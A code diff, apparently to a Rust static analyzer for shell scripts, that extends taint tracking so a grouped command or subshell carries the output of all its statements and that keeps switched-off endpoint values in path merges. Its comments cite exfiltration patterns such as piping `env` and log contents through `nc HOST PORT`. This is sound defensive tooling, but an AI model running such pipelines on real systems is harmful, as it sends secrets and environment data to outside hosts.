@@ -620,10 +620,14 @@ impl Shell<'_, '_, '_> {
         function_body(call, name, self.src, self.run_at)
     }
 
-    /// Run every statement under `node`; the value is the last statement's stdout.
+    /// Run every statement under `node`; the value is the last statement's stdout. Taken as a
+    /// value (a group piped on, `{ env; tail log; } | nc HOST PORT`, a command substitution),
+    /// it carries the data of every statement's stdout, not the last one's alone: the reader
+    /// gets all of it.
     fn block(&mut self, node: Node<'_>, capture: bool) -> Val {
         let mut out = Val::unknown();
         let mut earlier: Vec<Val> = Vec::new();
+        let mut printed = Taint::default();
         let children: Vec<Node<'_>> = node.named_children().collect();
         let guards = self.confined.len();
         let top_level = node.kind() == "program";
@@ -634,13 +638,16 @@ impl Shell<'_, '_, '_> {
             }
             let prev = std::mem::replace(&mut out, self.stmt(child, capture, None));
             if capture {
+                printed.join(&prev.taint);
                 earlier.push(prev);
             }
             self.after_statement(child);
         }
         self.run_at = run_at;
         self.release(guards);
-        with_earlier_lines(out, &earlier)
+        let mut out = with_earlier_lines(out, &earlier);
+        out.taint.join(&printed);
+        out
     }
 
     /// Run the statements of a function's body; the value is what it prints: the last
@@ -1602,6 +1609,11 @@ impl Shell<'_, '_, '_> {
                         .filter(|c| !c.is_named())
                         .all(|c| c.kind() == "||");
                 let mut printed: Vec<Val> = Vec::new();
+                // `{ env; tail -n 40 "$log"; } | nc HOST PORT`, `(date; printenv)`: a group
+                // taken as a value prints what each of its statements prints, so it carries the
+                // data of all of them, not the last one's alone.
+                let group = capture && matches!(node.kind(), "compound_statement" | "subshell");
+                let mut group_printed = Taint::default();
                 let mut last_item_silent = false;
                 // What each way through an `if` or an `&&`/`||` list leaves in the variables
                 // (see `merge_paths`): the variables when its first branch starts, and at the
@@ -1680,6 +1692,9 @@ impl Shell<'_, '_, '_> {
                     }
                     let prev = out;
                     out = self.stmt(c, capture, stdin);
+                    if group {
+                        group_printed.join(&out.taint);
+                    }
                     if either {
                         printed.push(out.clone());
                     }
@@ -1819,6 +1834,7 @@ impl Shell<'_, '_, '_> {
                     }
                     out.alts = all.alts;
                 }
+                out.taint.join(&group_printed);
                 out
             }
         }
@@ -1990,6 +2006,23 @@ impl Shell<'_, '_, '_> {
         let mut merged = ends[last].clone();
         let names: std::collections::BTreeSet<&String> =
             ends.iter().flat_map(|e| e.keys()).collect();
+        // `endpoint=""` or `target=local_only` (a name whose value is empty) on the way walked
+        // last: a setting switched off there, which the other ways leave on. Both values stay
+        // (`[[ -n "$endpoint" ]] || return` ends the empty one; the other is where the script
+        // sends what it sends when run as it is).
+        let switched_off = |v: &Val| match v.known() {
+            Some("") => true,
+            Some(t) if is_identifier(t) => merged
+                .get(t)
+                .or_else(|| self.vars.get(t))
+                .is_some_and(|x| x.known() == Some("")),
+            _ => false,
+        };
+        let off: Vec<&String> = names
+            .iter()
+            .copied()
+            .filter(|n| merged.get(*n).is_some_and(&switched_off))
+            .collect();
         for name in names {
             let values: Vec<&Val> = ends.iter().filter_map(|e| e.get(name)).collect();
             let Some(mut v) = merged.get(name).or(values.first().copied()).cloned() else {
@@ -1997,6 +2030,10 @@ impl Shell<'_, '_, '_> {
             };
             for other in &values {
                 if **other == v {
+                    continue;
+                }
+                if off.contains(&name) && other.known().is_some_and(|t| !t.is_empty()) {
+                    v = v.union(other);
                     continue;
                 }
                 v = self.sink.conditional_assignment(Some(other), v);
